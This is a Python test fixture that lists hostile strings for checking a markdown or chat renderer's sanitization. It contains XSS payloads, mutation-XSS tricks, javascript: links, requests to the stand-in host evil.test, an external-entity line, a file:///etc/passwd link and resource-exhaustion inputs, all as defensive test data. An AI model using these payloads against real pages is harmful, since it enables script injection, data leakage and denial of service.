"""What a hostile model might answer. No string may run a script, fetch anything or stop the page.

Each tries to set `window.hacked` or to reach `evil.test`, or costs much to read. A page that shows
one of them sends no request and takes no longer than for an honest answer of that length.
"""

_SCRIPTS = (
    "<script>window.hacked = true</script>",
    "<ScRiPt\n>window.hacked = true</sCrIpT\t>",
    '<script src="http://evil.test/a.js"></script>',
    "Before <scr<script>ipt>window.hacked = true</scr</script>ipt> after",
    '<script type="module">import "https://evil.test/m.js"</script>',
    "<noscript><p title=\"</noscript><img src=x onerror='window.hacked = true'>\">",
    "<style>@import url(https://evil.test/s.css); p { background: url(http://evil.test/b) "
    "}</style>",
    '<p style="background-image: url(https://evil.test/c)">styled</p>',
    '<p style="position: fixed; inset: 0; width: 100vw; height: 100vh">Your session ended</p>',
    '<link rel="stylesheet" href="https://evil.test/l.css"><link rel=preconnect href=//evil.test>',
    '<meta http-equiv="refresh" content="0; url=https://evil.test/r">',
    '<base href="https://evil.test/"><a href="next">next</a>',
)

_HANDLERS = (
    '<img src="x" onerror="window.hacked = true">',
    "<img/src=x/onerror=window.hacked=true>",
    "<b onmouseover=window.hacked=true onfocus=window.hacked=true tabindex=0 autofocus>bold</b>",
    "<details open ontoggle=window.hacked=true><summary>more</summary>text</details>",
    "<body onload=window.hacked=true><p onpointerrawupdate=window.hacked=true>text",
    '<a href="https://example.com" onclick="window.hacked = true">an innocent link</a>',
    "<svg onload=window.hacked=true><animate onbegin=window.hacked=true attributeName=x></svg>",
    "<p onanimationstart=window.hacked=true style='animation: x 1s'>text</p>",
    "<input autofocus onfocus=window.hacked=true><select onfocus=window.hacked=true autofocus>",
    "<marquee onstart=window.hacked=true>text</marquee><video onerror=window.hacked=true src=x>",
)

_LINKS = (
    "[press](javascript:window.hacked=true)",
    "[press](JaVaScRiPt:window.hacked=true)",
    "[press](&#106;avascript&colon;window.hacked=true)",
    "[press](java&Tab;script:window.hacked=true) [press](&#x0A;javascript:window.hacked=true)",
    "[press](<java\tscript:window.hacked=true>) [press](\x01javascript:window.hacked=true)",
    "[press](vbscript:window.hacked=true) [press](data:text/html,<script>hacked=true</script>)",
    "[press](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9dHJ1ZTwvc2NyaXB0Pg==)",
    "[press](blob:https://evil.test/1) [press](file:///etc/passwd) [press](intent://evil.test/)",
    "[press](//evil.test/path) [press](/history) [press](#/sessions/other) [press](?delete=all)",
    '[press](https://example.com "title\\" onmouseover=\\"window.hacked=true")',
    "[press](https://example.com/'onmouseover='window.hacked=true'a=')",
    '[press][r]\n\n[r]: javascript:window.hacked=true "title"',
    '[press][r]\n\n[r]: <https://example.com/"onclick="hacked=true> \'"><img src=x '
    "onerror=hacked=1>'",
    "<javascript:window.hacked=true> <vbscript:x> <data:text/html,x>",
    'https://example.com/"onmouseover="window.hacked=true '
    "www.example.com/<script>hacked=1</script>",
    "[![![a](javascript:hacked=1)](javascript:hacked=2)](javascript:window.hacked=true)",
    "<a href='javascript:window.hacked=true' target='_self' ping='https://evil.test/p'>press</a>",
    "<a href=' &#1; javascript:window.hacked=true' download>press</a>",
    "[^1] and [^2]\n\n[^1]: <img src=x onerror=window.hacked=true>\n[^2]: javascript:hacked=true",
    "<map name=m><area shape=default href=javascript:window.hacked=true></map><img "
    "usemap=#m src=x>",
)

_IMAGES = (
    "![tracking](https://evil.test/pixel.png?who=you)",
    "![tracking](http://evil.test/pixel.png) ![](//evil.test/p.png) ![](/files/p.png)",
    "![a][i]\n\n[i]: https://evil.test/reference.png",
    '<img src="https://images.example.com.evil.test/a.png" srcset="https://evil.test/b.png 2x">',
    '<img src="https://images.example.com@evil.test/a.png"><img '
    'src="https://evil.test\\@example.org">',
    "<img lowsrc=https://evil.test/l.png dynsrc=https://evil.test/d.png src=data:,x>",
    "<picture><source srcset=https://evil.test/s.webp><img alt=x></picture>",
    "<video poster=https://evil.test/p.png src=https://evil.test/v.mp4 autoplay></video>",
    "<audio src=https://evil.test/a.mp3 autoplay></audio><track src=https://evil.test/t.vtt>",
    "<table background=https://evil.test/t.png><tr><td "
    "background=https://evil.test/c.png>x</table>",
    "<input type=image src=https://evil.test/i.png><image href=https://evil.test/i2.png>",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhhY2tlZD10cnVlIi8+)",
    '![x" onerror="window.hacked=true](https://evil.test/x.png "y\' onload=\'hacked=true")',
    "![<img src=x onerror=window.hacked=true>](javascript:window.hacked=true)",
)

_FRAMES = (
    '<iframe src="https://evil.test/f"></iframe>',
    '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>',
    "<object data=https://evil.test/o><embed src=https://evil.test/e></object>",
    "<object data='javascript:window.hacked=true'></object><applet code=x></applet>",
    "<frameset><frame src=javascript:parent.hacked=true></frameset>",
    "<form action=https://evil.test/form><button>Continue</button><input name=key></form>",
    "<button form=f formaction=javascript:window.hacked=true>Continue</button><form id=f></form>",
    "<isindex action=https://evil.test/x type=submit><textarea autofocus "
    "onfocus=hacked=1></textarea>",
    "<dialog open><h1>Sign in again</h1><input type=password></dialog><p popover id=p>x</p>",
    "<template><script>window.hacked=true</script></template><slot name=x></slot>",
    "<portal src=https://evil.test/p></portal><fencedframe src=https://evil.test/p></fencedframe>",
)

_MUTATIONS = (
    '<svg></p><style><a id="</style><img src=x onerror=window.hacked=true>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=hacked=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.hacked=true>",
    "<svg><foreignObject><p><svg><style><!--</style><img src=x onerror=hacked=1>--></svg></svg>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=hacked=1></style></math>",
    "<svg><title><style><img src=x onerror=window.hacked=true></style></title></svg>",
    "<a><table><a><svg><desc><b><noscript></desc><img src=x onerror=hacked=1></noscript></svg>",
    '<xmp><p title="</xmp><img src=x onerror=window.hacked=true>">',
    '<noembed><b title="</noembed><img src=x onerror=hacked=1>"></noembed><plaintext>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src '
    "onerror=hacked=1>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hacked=1></svg>#x'/></svg>",
    "<svg><a xlink:href=javascript:window.hacked=true><text y=20>press</text></a></svg>",
    "<!--><img src=x onerror=window.hacked=true>--> <!-- --!><img src=x onerror=hacked=1>",
    "<![CDATA[><img src=x onerror=window.hacked=true>]]> <?xml ><img src=x onerror=hacked=1>?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.test/e'>]>&e;",
    "<b title='`<img src=x onerror=hacked=1>`'>`<b title='`<img src=x "
    "onerror=window.hacked=true>'>",
    '*a<b title="*\n\n<img src=x onerror=window.hacked=true>">',
    "\x00<img src=x onerror\x00=window.hacked=true> <img\x0csrc=x\x0conerror=hacked=1>",
    "+ADw-script+AD4-window.hacked=true+ADw-/script+AD4-",
    "<is-land on:visible><script>hacked=1</script></is-land><x is=x-y onclick=hacked=1>",
)

_NAMES = (
    "<a id=location name=location href=https://evil.test>x</a><img name=cookie id=body>",
    "<form id=attributes><input name=attributes><input name=nodeName id=parentNode></form>",
    "<p id=app class='hidden modal overlay'>x</p><p id=__proto__ name=constructor>x</p>",
    "```__proto__\nwindow.hacked = true\n```\n\n```constructor\nx\n```\n\n```toString\nx\n```",
    "[constructor] [__proto__] [a][toString] [hasOwnProperty][]\n\n[__proto__]: "
    "javascript:hacked=1",
    '```"><img src=x onerror=window.hacked=true>\ncode\n```',
    '```js onload=hacked=1 class="x" <script>\nlet x = \'</code></pre><img src=x '
    "onerror=hacked=1>';\n```",
    "```html\n<script>window.hacked = true</script><img src=https://evil.test/code.png>\n```",
    "~~~' autofocus onfocus='hacked=1\n</pre></code><script>window.hacked=true</script>\n~~~",
    "`<img src=x onerror=window.hacked=true>` ``</code><script>hacked=1</script>``",
    "| a <script>hacked=1</script> | b |\n|--|:-:|\n| <img src=x onerror=hacked=1> | "
    "[x](javascript:hacked=1) |",
    "# <img src=x onerror=window.hacked=true>\n\n- [ ] <input onfocus=hacked=1 "
    "autofocus>\n- [x](javascript:hacked=1)",
    "> <script>window.hacked=true\n> </script>\n1. <iframe src=https://evil.test/list>",
)

_PARTS = (
    "<details open ontoggle=window.hacked=true>\n<summary onclick=window.hacked=true>x</summary>"
    "\n\n<img src=x onerror=window.hacked=true>\n\n</details>",
    "<details>\n<summary><script>window.hacked = true</script><a href=javascript:hacked=1>x</a>"
    "</summary>\n\n[x](javascript:hacked=1)\n\n<iframe src=https://evil.test/></iframe>",
    "<details class='modal'><summary><details><summary>x</summary></summary></details>y</details>",
    "x[^1] y[^<img src=x onerror=hacked=1>]\n\n[^1]: <img src=x onerror=window.hacked=true>\n"
    "[^<img]: x\n[^__proto__]: x\n\n[^constructor] [^toString] [^__proto__]",
    "<sup class=md-ref>1</sup><sup class=md-ref><button>2</button></sup><b class=md-back>3</b>",
    "> [!NOTE]<script>hacked=1</script>\n> <img src=x onerror=window.hacked=true>",
    "> [!__proto__]\n> x\n\n> [!constructor]\n> y\n\n> [!note onclick=hacked=1]\n> z",
)

_TEMPLATES = (
    "{{constructor.constructor('window.hacked=true')()}} ${window.hacked=true} <%= hacked %>",
    "{@html '<img src=x onerror=window.hacked=true>'} {#if (window.hacked = true)}x{/if}",
    "<p v-on:click=hacked=1 x-on:click=hacked=1 ng-init=hacked=1 hx-get=https://evil.test/h>x</p>",
    "<p data-bind='hacked=1' data-controller=x aria-label='Send' role=button class='primary'>x</p>",
)

_FORMULAS = (
    r"$\href{javascript:window.hacked=true}{x}$ and \(\url{javascript:hacked=1}\)",
    r"$$\includegraphics{http://evil.test/formula.png}$$",
    r"$\class{modal}{x} \id{app}{y} \style{position:fixed}{z} \data{x=1}{w}$",
    r"$\htmlClass{x}{y} \htmlStyle{background:url(https://evil.test/h)}{z} \htmlData{a=b}{c}$",
    r"$$\text{</mtext></math><img src=x onerror=window.hacked=true>}$$",
    r"\[ \text{<style><img src=x onerror=hacked=1></style>} \unicode{60}script\unicode{62} \]",
    r"$\color{red;background:url(https://evil.test/c)}{x} \colorbox{url(https://evil.test/d)}{y}$",
    r"$$\def\a{\b\b}\def\b{\c\c}\def\c{\d\d}\def\d{\e\e}\def\e{\f\f}\def\f{xxxxxxxxxx}\a\a\a\a$$",
    r"$$\def\x{\x\x}\x$$ $$\let\y\relax\def\z#1{\z{#1#1}}\z{y}$$",
    r"$$\rule{99999999em}{99999999em} \kern99999999em \hspace{-99999999em} x$$",
    "$$" + "\\frac{1}{" * 400 + "x" + "}" * 400 + "$$",
    "$$" + "\\sqrt{" * 2_000 + "$$ " + "$" + "{" * 900 + "$",
    "$$\\begin{matrix}" + "&" * 3_000 + "\\\\" * 500 + "\\end{matrix}$$",
    " ".join(f"$x_{{{i}}}^{{\\frac{{{i}}}{{2}}}}$" for i in range(150)),
)

_LETTERS = (
    "\u202egnp.exe\u202c \u2066\u2067[press](https://example.com/\u202etxt.exe)\u2069\u2069",
    "\u200b<\u200bscript>window.hacked=true</script> \ufeff<img src=x onerror=hacked=1>",
    "Z" + "\u0335\u0321\u0322\u0353\u0354" * 400 + " \U000e0041\U000e0042 \ud7ff\uffff",
    "\uff1cscript\uff1ewindow.hacked=true\uff1c/script\uff1e &lt;script&gt;hacked=1&lt;/script&gt;",
    "&#0;&#x110000;&#99999999999;&notanentity;&#60;img src=x onerror=hacked=1&#62;",
)

_COSTS = (
    "> " * 5_000 + "deep",
    ">" * 20_000 + " deep",
    "- " * 4_000 + "deep",
    "\n".join("  " * depth + "- deep" for depth in range(200)),
    "\n".join("   " * depth + f"{depth}. deep" for depth in range(150)),
    "".join(f"{'> ' * depth}deep\n" for depth in range(300)),
    "> - " * 2_000 + "deep",
    "[" * 20_000,
    "[" * 9_000 + "x" + "](https://example.com)" * 900,
    "![" * 10_000 + "](" * 5_000,
    "[a](" * 10_000,
    "[a](<b" * 10_000,
    "[x][" * 8_000 + "\n\n" + "[x]: y\n" * 500,
    "*a " * 9_000,
    "**a *b " * 5_000,
    "*" * 30_000 + "a" + "*" * 30_000,
    "_a_b" * 8_000,
    "a**b" + "c*_" * 8_000,
    "a**b" + "c*_" * 6_000,
    "a**b" + "c*_" * 570,
    "*" * 9_000 + "a" + "*" * 9_000,
    "a." * 9_500 + "@",
    "a@" * 9_000,
    "\\(" * 9_000,
    "~~a " * 8_000 + "~" * 5_000,
    "`" * 20_000 + "a",
    "".join("`" * n + " " for n in range(1, 300)),
    "<" * 30_000,
    "<a " * 10_000,
    "<a b='" * 8_000,
    "<!--" * 10_000,
    "<![CDATA[" * 5_000 + "<?" * 5_000,
    "<div>\n" * 2_000,
    "<b>" * 15_000 + "deep",
    "<details>" * 1_000 + "<table><tr><td>" * 300,
    "<details>\n\n" * 1_000 + "</details>\n\n" * 900,
    "<details><summary>a</summary>b</details>\n" * 500,
    "[^a]: b\n" * 2_000 + "[^a]" * 2_000,
    "\\(" * 10_000 + "\\[" * 10_000,
    "\\[\n" * 15_000,
    "$" * 20_000 + " $a" * 8_000,
    "$$\n" * 10_000 + "x",
    "|" * 20_000 + "\n" + "|-" * 10_000 + "\n" + "|x" * 10_000,
    "| a | b |\n|--|--|\n" + "| *c | `d |\n" * 1_000,
    "a\n" + "=" * 30_000 + "x\n" + "-" * 30_000,
    "# " * 10_000 + "#" * 20_000,
    "http://" * 6_000 + "www." * 6_000,
    "a@" * 10_000 + "b.c" * 5_000,
    "a." * 15_000 + "@" + "b-" * 10_000,
    "&" * 20_000 + "&amp" * 5_000,
    "\\" * 40_000,
    " " * 40_000 + "x" + "\t" * 20_000 + "y",
    "\n" * 40_000 + "x",
    ("a" + " " * 200 + "\n") * 300,
    "- a\n\n" * 1_000,
    "1. a\n" * 1_500,
    "[a]: b\n" * 6_000,
    "[" + "a" * 30_000 + "]: " + "b" * 30_000,
    "```" * 10_000,
    "```\n" * 1_501,
    "~~~js\n" + "/*" * 20_000,
    "```js\n" + "`${" * 15_000,
    "```html\n" + '<a b="' * 12_000,
    "```markdown\n" + "*a_b[" * 9_000,
    "x" * 100_000,
    "word " * 20_000,
)

HOSTILE: tuple[str, ...] = (
    *_SCRIPTS,
    *_HANDLERS,
    *_LINKS,
    *_IMAGES,
    *_FRAMES,
    *_MUTATIONS,
    *_NAMES,
    *_PARTS,
    *_TEMPLATES,
    *_FORMULAS,
    *_LETTERS,
    *_COSTS,
)
